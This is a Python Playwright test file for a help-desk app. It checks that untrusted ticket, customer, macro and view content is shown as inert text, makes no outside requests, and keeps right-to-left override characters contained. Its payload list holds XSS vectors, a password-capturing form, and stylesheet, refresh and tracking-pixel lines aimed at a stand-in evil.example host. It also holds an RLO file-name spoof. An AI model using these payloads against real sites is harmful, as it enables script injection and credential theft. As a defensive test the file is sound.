"""What strangers write shows as text: nothing of it runs, nothing is fetched from elsewhere, the console stays silent."""

from typing import Any
from urllib.parse import urlsplit

from playwright.async_api import expect

from tests import make
from tests import world as worlds
from tests.web.conftest import Enter

RUN = "window.top.owned=1"
CORPUS = [
    f'<script>{RUN}</script>',
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x></svg>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}">go</a>',
    f'<a href=" &#106;avascript:{RUN}">go</a>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css)</style>',
    '<div style="background:url(https://evil.example/z.png);position:fixed;inset:0">over everything</div>',
    '<form action="https://evil.example"><input name=password autofocus><button>Log in</button></form>',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '"><b onmouseover=alert(1)>x</b>',
    "{{7*7}} ${7*7} {% raw %}",
    "</textarea></template></title><script>" + RUN + "</script>",
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
]  # fmt: skip


async def test_a_hostile_ticket_in_every_corner(enter: Enter, shop: worlds.World) -> None:
    await make.address(shop)
    everything = " ".join(CORPUS)
    mails = [make.mail("see the HTML", body_html=f"<p>mail {n}</p>{one}", attachments=[{"url": "https://files.example/x", "name": one[:200], "content_type": "text/html", "size": 3}]) for n, one in enumerate(CORPUS)]  # fmt: skip
    made = await shop.lia.post("/api/tickets", {"messages": mails, "subject": everything[:900], "customer": {"email": "mia@example.com", "name": CORPUS[1]}, "tags": [{"name": CORPUS[1].replace(",", "")}]})  # fmt: skip
    assert made.status == 201, made.raw
    ticket = made.json["id"]
    await shop.lia.put(f"/api/customers/{made.json['customer']['id']}", {"note": everything})
    macro = [{"name": "setResponseText", "title": CORPUS[0], "type": "user", "arguments": {"body_text": everything, "body_html": everything}}, {"name": CORPUS[1], "title": CORPUS[0], "type": "user", "arguments": {}}]  # fmt: skip
    await shop.ada.post("/api/macros", {"name": everything[:200], "actions": macro})
    await shop.ada.post("/api/views", {"slug": "x", "name": everything[:200], "decoration": {"emoji": CORPUS[0]}})  # fmt: skip
    await shop.leo.post(f"/api/tickets/{ticket}/messages", make.note(everything))
    foreign: list[str] = []
    page = await enter(at=f"/inbox/open/{ticket}")
    page.on("request", lambda sent: foreign.append(sent.url) if elsewhere(sent.url, shop) else None)
    await page.reload()
    for summary in await page.locator(".earlier > summary, .rest > summary").all():
        await summary.click()
    await page.locator(".macro-find input").focus()
    await expect(page.locator(".macro").first).to_be_visible()
    await page.locator(".macro", has_text="script").first.click()
    await expect(page.get_by_label("Message", exact=True)).to_contain_text("go")
    await page.locator("#search").fill("mail")
    await expect(page.locator("#found")).to_be_visible()
    for frame in page.frames[1:]:
        assert await frame.evaluate("document.scripts.length + document.forms.length") == 0
    await page.get_by_role("button", name="Send", exact=True).click()
    await expect(page.locator(".planned")).to_be_visible()
    assert await page.evaluate("window.owned") is None
    assert await page.evaluate("document.querySelectorAll('#ticket script, #ticket object, #ticket embed, #ticket base, #ticket [onerror], #ticket [onload], #customer script').length") == 0  # fmt: skip
    assert foreign == []
    assert (urlsplit(page.url).path) == f"/inbox/open/{ticket}"


TURNED = """() => {
  const found = [], words = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (words.nextNode()) {
    const { data, parentElement } = words.currentNode;
    if (!data.includes("\u202e") || data.includes("\u2068")) continue;
    if (!parentElement.closest("bdi, [dir=auto], option, template, .unseen, .change b")) found.push(parentElement.outerHTML.slice(0, 120));
  }
  return found;
}"""
SCROLLED = "document.documentElement.scrollWidth - innerWidth"


async def test_from_right_to_left(enter: Enter, shop: worlds.World) -> None:
    """Nothing sticks out, and marks that turn the direction end with the name that holds them."""
    evil = "\u202egnp.exe Mia"
    customer = {"email": "mia@example.com", "name": evil}
    made = await make.ticket(shop, subject=evil, customer=customer, tags=[{"name": evil}])
    await make.ticket(shop, subject="مرحبا أين طلبي", messages=[make.mail("مرحبا، لم يصل الطرد بعد.")])
    await shop.ada.post("/api/views", {"slug": "x", "name": evil, "decoration": {"emoji": "x"}})
    await shop.ada.post("/api/macros", {"name": evil, "actions": []})
    await shop.leo.put(f"/api/tickets/{made['id']}", {"subject": evil + "!"})
    page = await enter(at=f"/inbox/open/{made['id']}")
    at = (f"/inbox/open/{made['id']}", f"/customers/{made['customer']['id']}", "/customers", "/settings/views", "/settings/macros", "/statistics", "/search?q=mia")  # fmt: skip
    wrong = []
    for path in at:
        await page.goto(f"http://{shop.ada.host}{path}")
        wrong += [f"{path}: {found}" for found in await page.evaluate(TURNED)]
        await page.evaluate("document.documentElement.dir = 'rtl'")
        for width in (1440, 1024, 390):
            await page.set_viewport_size({"width": width, "height": 844})
            if await page.evaluate(SCROLLED) > 0:
                wrong.append(f"{path} sticks out at {width}")
        await page.set_viewport_size({"width": 1440, "height": 900})
    assert not wrong, "\n".join(wrong)


def elsewhere(address: str, shop: worlds.World) -> Any:
    parts = urlsplit(address)
    return parts.scheme in ("http", "https") and parts.netloc != shop.ada.host
